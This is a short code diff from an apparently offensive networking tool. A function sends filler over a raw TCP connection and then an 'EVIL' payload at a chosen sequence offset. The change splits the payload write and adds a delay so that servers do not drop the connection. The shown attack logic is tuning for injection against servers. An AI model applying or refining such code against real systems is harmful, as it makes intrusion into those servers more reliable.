@@ -51,7 +51,9 @@ def speak_again(attack: Attack, new: RawTcp, acknowledged: int, decided: int) ->
             new.put(filler[place : min(stop, place + SEGMENT)], place)
             if place % (16 * SEGMENT) == start % (16 * SEGMENT):
                 attack.wait(0.01)
-    new.put(b"\r\n" + EVIL, decided)
+    new.put(b"\r\n", decided)
+    attack.wait(0.03)  # some servers hang up on who does not wait
+    new.put(EVIL, decided + 2)
     attack.wait(0.05)
 
 
